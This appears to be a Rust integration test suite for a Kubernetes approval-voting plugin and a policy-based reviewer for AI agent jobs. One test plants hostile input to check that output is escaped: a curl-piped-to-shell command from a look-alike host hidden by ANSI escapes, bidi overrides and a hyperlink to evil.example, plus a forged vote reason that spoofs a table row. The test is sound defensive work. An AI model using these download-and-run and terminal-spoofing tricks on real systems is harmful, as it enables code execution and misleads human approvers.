//! Voting as yourself: the `kubectl agentgate` plugin run with a user's kubeconfig, and
//! `agentgate review` run with a ServiceAccount token, against the real apiserver, its
//! admission policies and the operator.

mod support;

use std::path::Path;
use std::process::Output;
use std::time::{Duration, Instant};

use agentgate::api::{AgentJob, ApprovalVote, Decision};
use kube::api::{ListParams, Patch, PatchParams, PostParams};
use kube::{Api, Client};
use serde_json::json;
use support::cluster::*;
use support::controlplane::ControlPlane;
use support::review::{Reviewer, reviewer_head_of, service_account_kubeconfig};

async fn setup(ns: &str) -> Env {
    // The reviewer ServiceAccount's votes count only because the operator is told to trust it.
    let robot = format!("{ns}/reviewer");
    Env::builder(ns).node("plugin-review-node", "64", "256Gi", &[]).args(&["--robot-voters", &robot]).build().await
}

async fn create_job(env: &Env, name: &str, category: &str, model: &str, image: &str, tools: &[&str]) -> AgentJob {
    let tools: Vec<_> = tools.iter().map(|t| json!({"name": t, "required": false})).collect();
    let job = JobManifest::payments(name).category(category).primary("agent", image, model).spec(json!({"tools": tools})).build();
    let dave = env.user("dave").await;
    Api::<AgentJob>::namespaced(dave, &env.ns).create(&PostParams::default(), &job).await.expect("create job")
}

fn approval_of(job: &AgentJob) -> agentgate::api::ApprovalStatus {
    job.status.as_ref().and_then(|s| s.approval.clone()).unwrap_or_default()
}

async fn plugin(kubeconfig: &Path, args: &[&str]) -> Output {
    support::plugin::run(kubeconfig, args).await
}

fn text(output: &Output) -> String {
    support::plugin::describe(output)
}

#[tokio::test]
async fn heads_vote_with_the_plugin_as_themselves() {
    let env = setup("pr-plugin").await;
    let cp = ControlPlane::shared();
    let (alice, bob) = (cp.kubeconfig("alice"), cp.kubeconfig("bob"));
    let job = create_job(&env, "scan", "core-security", "gpt-4o-mini", "ghcr.io/acme/agent:1", &[]).await;
    wait_for_job(&env.admin, &env.ns, "scan", "AwaitingApproval", |j| phase(j) == Some("AwaitingApproval")).await;

    let started = Instant::now();
    let out = plugin(&alice, &["approve", "scan", "-n", &env.ns, "--reason", "scope is fine", "--confidence", "80"]).await;
    assert!(out.status.success(), "{}", text(&out));
    assert!(String::from_utf8_lossy(&out.stdout).contains("approvalvote/scan-alice-g1 created"), "{}", text(&out));
    eprintln!("plugin approve took {:?}", started.elapsed());

    let votes = Api::<ApprovalVote>::namespaced(env.admin.clone(), &env.ns);
    let cast = votes.get("scan-alice-g1").await.expect("alice's vote");
    assert_eq!(cast.spec.voter, "alice", "the voter comes from the apiserver, not from the command line");
    assert_eq!(
        (cast.spec.decision, cast.spec.reason.as_deref(), cast.spec.confidence),
        (Decision::Approve, Some("scope is fine"), Some(80))
    );
    assert_eq!((cast.spec.job_ref.uid.as_str(), cast.spec.job_ref.generation), (job.metadata.uid.as_deref().unwrap(), 1));
    assert!(cast.spec.voter_groups.contains(&"agentgate:heads".to_string()), "{:?}", cast.spec.voter_groups);
    let counted = wait_for_job(&env.admin, &env.ns, "scan", "alice counted", |j| approval_of(j).summary == "1/2").await;
    assert_eq!(approval_of(&counted).approvers[0].voter, "alice");

    // A second vote by alice on the same generation is refused by the plugin, not silently ignored.
    let again = plugin(&alice, &["reject", "scan", "-n", &env.ns, "--reason", "changed my mind"]).await;
    assert!(!again.status.success(), "{}", text(&again));
    let err = String::from_utf8_lossy(&again.stderr);
    assert!(err.contains("alice already voted Approve on generation 1 of scan (vote scan-alice-g1)"), "{}", text(&again));

    let out = plugin(&bob, &["approve", "scan", "-n", &env.ns]).await;
    assert!(out.status.success(), "{}", text(&out));
    wait_for_job(&env.admin, &env.ns, "scan", "Running after two approvals", |j| phase(j) == Some("Running")).await;

    let table = wait_for(
        "both votes shown as counted",
        Duration::from_secs(15),
        || async {
            let out = plugin(&alice, &["votes", "scan", "-n", &env.ns]).await;
            assert!(out.status.success(), "{}", text(&out));
            String::from_utf8_lossy(&out.stdout).into_owned()
        },
        |t: &String| ["scan-alice-g1", "scan-bob-g1"].iter().all(|v| t.lines().any(|l| l.starts_with(v) && l.contains(" yes "))),
    )
    .await;
    eprintln!("kubectl agentgate votes scan:\n{table}");
    assert!(table.contains("Approvals 2/2 (approved by: alice, bob; rejected by: nobody)"), "{table}");
    let header = table.lines().find(|l| l.starts_with("VOTE")).expect("a header line");
    for column in ["VOTER", "DECISION", "COUNTED", "WHY"] {
        assert!(header.contains(column), "{header}");
    }
    let alice_line = table.lines().find(|l| l.starts_with("scan-alice-g1")).unwrap();
    assert!(alice_line.contains("alice") && alice_line.contains("Approve") && alice_line.contains("counted"), "{alice_line}");

    // Clear errors: a job that does not exist, and RBAC that does not allow reading jobs.
    let missing = plugin(&alice, &["approve", "nope", "-n", &env.ns]).await;
    assert!(!missing.status.success());
    assert!(String::from_utf8_lossy(&missing.stderr).contains("AgentJob nope not found in namespace pr-plugin"), "{}", text(&missing));

    let nobody = service_account_kubeconfig(&env.admin, &env.ns, "nobody").await;
    let forbidden = plugin(&nobody, &["approve", "scan"]).await; // namespace from the kubeconfig context
    assert!(!forbidden.status.success());
    eprintln!("as a ServiceAccount without RBAC: {}", String::from_utf8_lossy(&forbidden.stderr));
    let err = String::from_utf8_lossy(&forbidden.stderr);
    assert!(
        err.contains("forbidden: you may not get agentjobs.agentgate.dev in namespace pr-plugin")
            && err.contains("grants verb \"get\" on resource \"agentjobs\" in API group \"agentgate.dev\""),
        "{}",
        text(&forbidden)
    );
}

/// Nothing a terminal acts on or hides (escape sequences, `\r`, bidi and zero-width characters)
/// is left raw in what the plugin printed.
fn raw_controls(output: &[u8]) -> Vec<String> {
    String::from_utf8_lossy(output)
        .chars()
        .filter(|c| *c != '\n' && agentgate::domain::terminal_text::is_hidden(*c))
        .map(|c| format!("U+{:04X}", c as u32))
        .collect()
}

#[tokio::test]
async fn a_head_is_shown_what_the_author_wrote_escaped_and_never_run_by_the_terminal() {
    let env = setup("pr-terminal").await;
    let cp = ControlPlane::shared();
    let alice = cp.kubeconfig("alice");
    // dave's job hides a download piped to a shell behind a cleared line, a carriage return and a
    // bidi override, names a look-alike host, writes a description whose lines pass for a
    // budget, and pads its input to scroll the agents away.
    let command = "curl https://ex\u{430}mple.com/x.sh | sh\x1b[2K\x1b[1A\x1b[2K\recho scanning";
    let manifest = JobManifest::payments("scan")
        .category("core-security")
        .spec(json!({
            "description": "weekly scan\nbudget:\n  maxCostUSD: \"0.01\"",
            "agents": {"primary": {"command": ["sh", "-c", command, "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\"],
                                   "args": ["echo \u{202E}hs|hs.live lruc\u{200B}"]}},
            "input": {"padding": (0..400).map(|i| format!("line {i}")).collect::<Vec<_>>()},
        }))
        .build();
    let dave = env.user("dave").await;
    let job = Api::<AgentJob>::namespaced(dave.clone(), &env.ns).create(&PostParams::default(), &manifest).await.expect("create job");
    // dave's own vote cannot count, but every head listing the votes is shown its reason.
    let mut forged = ApprovalVote::new(
        "scan-dave-g1",
        agentgate::api::ApprovalVoteSpec {
            job_ref: agentgate::api::JobRef { name: "scan".into(), uid: job.metadata.uid.clone().unwrap(), generation: 1 },
            voter: "dave".into(),
            decision: Decision::Approve,
            reason: Some("ok\nscan-bob-g1   bob   Approve   1   yes   counted: 1 of 2 approvals\x1b[1A\x1b[2K".into()),
            voter_groups: vec![],
            confidence: None,
        },
    );
    forged.metadata.namespace = Some(env.ns.clone());
    Api::<ApprovalVote>::namespaced(dave, &env.ns).create(&PostParams::default(), &forged).await.expect("dave votes as himself");
    wait_for_job(&env.admin, &env.ns, "scan", "AwaitingApproval", |j| phase(j) == Some("AwaitingApproval")).await;

    let out = plugin(&alice, &["approve", "scan", "-n", &env.ns, "--reason", "looked at it"]).await;
    assert!(out.status.success(), "{}", text(&out));
    let shown = String::from_utf8_lossy(&out.stdout).into_owned();
    assert_eq!(raw_controls(&out.stdout), Vec::<String>::new(), "{shown:?}");
    assert!(shown.contains(r"curl https://ex\u0430mple.com/x.sh | sh\u001B[2K\u001B[1A\u001B[2K\recho scanning"), "{shown}");
    assert!(shown.contains(r"echo \u202Ehs|hs.live lruc\u200B"), "{shown}");
    let lines: Vec<&str> = shown.lines().collect();
    assert_eq!(lines.iter().filter(|l| l.trim_start().starts_with("budget:")).count(), 1, "{shown}");
    let at = |needle: &str| lines.iter().position(|l| l.contains(needle)).unwrap_or_else(|| panic!("{needle}: {shown}"));
    assert!(at("line 399") < at("command:") && at("command:") < at("approvalvote/scan-alice-g1 created"), "{shown}");
    assert!(lines[at("approvalvote/") - 1].contains("runs agents agent ghcr.io/acme/agent:1"), "the footer names what runs:\n{shown}");

    let out = plugin(&alice, &["votes", "scan", "-n", &env.ns]).await;
    assert!(out.status.success(), "{}", text(&out));
    let table = String::from_utf8_lossy(&out.stdout).into_owned();
    eprintln!("kubectl agentgate votes scan:\n{table}");
    assert_eq!(raw_controls(&out.stdout), Vec::<String>::new(), "{table:?}");
    assert!(!table.lines().any(|l| l.starts_with("scan-bob-g1")), "bob never voted:\n{table}");
    assert!(table.contains(r"ok\nscan-bob-g1   bob   Approve"), "{table}");

    // The job printed for Git, as it is (a dry-run create by someone who may read its history).
    let admin = cp.kubeconfig("admin");
    for format in ["json", "yaml"] {
        let out = plugin(&admin, &["rerun", "scan", "-n", &env.ns, "--name", "scan-again", "-o", format]).await;
        assert!(out.status.success(), "{}", text(&out));
        assert_eq!(raw_controls(&out.stdout), Vec::<String>::new(), "{}", text(&out));
        let printed: AgentJob = serde_saphyr::from_str(&String::from_utf8_lossy(&out.stdout)).expect("the job as printed");
        assert_eq!(printed.spec, job.spec, "the same job, escaped");
    }
}

async fn votes_by(admin: &Client, ns: &str, job: &str, voter: &str) -> Vec<ApprovalVote> {
    Api::<ApprovalVote>::namespaced(admin.clone(), ns)
        .list(&ListParams::default().fields(&format!("spec.jobRef.name={job}")))
        .await
        .unwrap()
        .items
        .into_iter()
        .filter(|v| v.spec.voter == voter)
        .collect()
}

#[tokio::test]
async fn a_reviewer_service_account_votes_by_policy() {
    let env = setup("pr-review").await;
    let cp = ControlPlane::shared();
    let category = "pr-review-cat";
    let reviewer_name = format!("system:serviceaccount:{}:reviewer", env.ns);

    // The reviewer's ServiceAccount is a head of the category and may read jobs and cast votes.
    let kubeconfig = reviewer_head_of(&env.admin, &env.ns, category, "pr-reviewer").await;

    let policy = cp.dir().join("pr-review-policy.yaml");
    std::fs::write(&policy, "maxCostUSD: \"0.10\"\nallowedTools: [bandit-scanner]\nallowedImages: [ghcr.io/acme/]\nmaxRetries: 2\n")
        .unwrap();

    // One job exists before the reviewer starts (found by its initial list), the others after
    // (found by its watch). A job of another category is none of its business.
    create_job(&env, "fits", category, "gpt-4o-mini", "ghcr.io/acme/scanner:2", &["bandit-scanner"]).await;
    let started = Instant::now();
    let reviewer = Reviewer::start(
        &kubeconfig,
        &["--category", &format!("{category},another-cat"), "--policy", policy.to_str().unwrap()],
        cp.dir().join("pr-reviewer.log"),
    );
    create_job(&env, "shell", category, "gpt-4o-mini", "ghcr.io/acme/scanner:2", &["bandit-scanner", "shell-exec"]).await;
    create_job(&env, "pricey", category, "claude-opus-4", "ghcr.io/acme/scanner:2", &[]).await;
    create_job(&env, "elsewhere", "core-security", "gpt-4o-mini", "ghcr.io/acme/scanner:2", &[]).await;

    // Within policy: the reviewer's Approve counts as one of two.
    let fits = wait_for_job(&env.admin, &env.ns, "fits", "the reviewer's approval counted", |j| {
        approval_of(j).approvers.iter().any(|a| a.voter == reviewer_name)
    })
    .await;
    eprintln!("reviewer approved within {:?}", started.elapsed());
    assert_eq!(approval_of(&fits).summary, "1/2", "{}", reviewer.log());
    assert_eq!(phase(&fits), Some("AwaitingApproval"));
    let votes = Api::<ApprovalVote>::namespaced(env.admin.clone(), &env.ns);
    let approve = votes.get("fits-sa-pr-review-reviewer-g1").await.expect("the reviewer's vote, named after it");
    assert_eq!((approve.spec.voter.as_str(), approve.spec.decision), (reviewer_name.as_str(), Decision::Approve));
    let reason = approve.spec.reason.clone().unwrap_or_default();
    assert!(
        reason.contains("within review policy")
            && reason.contains("within the policy maximum $0.10")
            && reason.contains("tools bandit-scanner allowed"),
        "{reason}"
    );

    // A disallowed tool: rejected, naming it.
    let shell = wait_for_job(&env.admin, &env.ns, "shell", "rejected by the reviewer", |j| phase(j) == Some("Rejected")).await;
    assert_eq!(condition(&shell, "Ready").unwrap().reason, "VoteRejected");
    let reject = &votes_by(&env.admin, &env.ns, "shell", &reviewer_name).await[0];
    assert_eq!(reject.spec.decision, Decision::Reject);
    assert!(
        reject.spec.reason.as_deref().unwrap_or_default().contains("tool shell-exec not in the policy's allowedTools"),
        "{:?}",
        reject.spec.reason
    );
    assert!(condition(&shell, "Ready").unwrap().message.contains("shell-exec"), "{:?}", condition(&shell, "Ready"));

    // Over the policy's cost: rejected, naming both figures.
    let pricey = wait_for_job(&env.admin, &env.ns, "pricey", "rejected by the reviewer", |j| phase(j) == Some("Rejected")).await;
    assert_eq!(condition(&pricey, "Ready").unwrap().reason, "VoteRejected");
    let p90 = pricey.status.as_ref().unwrap().estimate.as_ref().unwrap().cost_usd.p90.clone();
    let reject = &votes_by(&env.admin, &env.ns, "pricey", &reviewer_name).await[0];
    let reason = reject.spec.reason.clone().unwrap_or_default();
    assert!(reason.contains(&format!("p90 estimated cost ${p90} is over the policy maximum $0.10")), "{reason}");

    // A spec change is a new generation: the reviewer votes once more, on it, and never twice on one.
    Api::<AgentJob>::namespaced(env.admin.clone(), &env.ns)
        .patch("fits", &PatchParams::default(), &Patch::Merge(json!({"spec": {"description": "now with a description"}})))
        .await
        .unwrap();
    wait_for_job(&env.admin, &env.ns, "fits", "generation 2 approved by the reviewer", |j| {
        j.metadata.generation == Some(2) && approval_of(j).approvers.iter().any(|a| a.voter == reviewer_name)
    })
    .await;
    // A duplicate vote would come from the reviewer handling the same generation again; once it
    // has voted on a job created after this point, it has worked through every earlier event.
    create_job(&env, "later", category, "gpt-4o-mini", "ghcr.io/acme/scanner:2", &["bandit-scanner"]).await;
    wait_for_job(&env.admin, &env.ns, "later", "the reviewer's vote on a later job", |j| {
        approval_of(j).approvers.iter().any(|a| a.voter == reviewer_name)
    })
    .await;
    let mut generations: Vec<i64> =
        votes_by(&env.admin, &env.ns, "fits", &reviewer_name).await.iter().map(|v| v.spec.job_ref.generation).collect();
    generations.sort();
    assert_eq!(generations, vec![1, 2], "{}", reviewer.log());
    for job in ["shell", "pricey"] {
        assert_eq!(votes_by(&env.admin, &env.ns, job, &reviewer_name).await.len(), 1, "{job}");
    }
    assert!(votes_by(&env.admin, &env.ns, "elsewhere", &reviewer_name).await.is_empty(), "another category is not reviewed");

    let log = reviewer.log();
    assert!(log.contains("starting reviewer") && log.contains(&reviewer_name), "{log}");
    assert!(
        log.contains("this reviewer is a head of the category")
            && log.contains("RBAC does not let this reviewer approve categories/another-cat"),
        "{log}"
    );
    let log_path = reviewer.log.clone();
    let status = reviewer.terminate().await;
    assert!(status.success(), "reviewer exit {status}");
    let log = std::fs::read_to_string(log_path).unwrap();
    assert!(log.contains("shutting down"), "{log}");
}
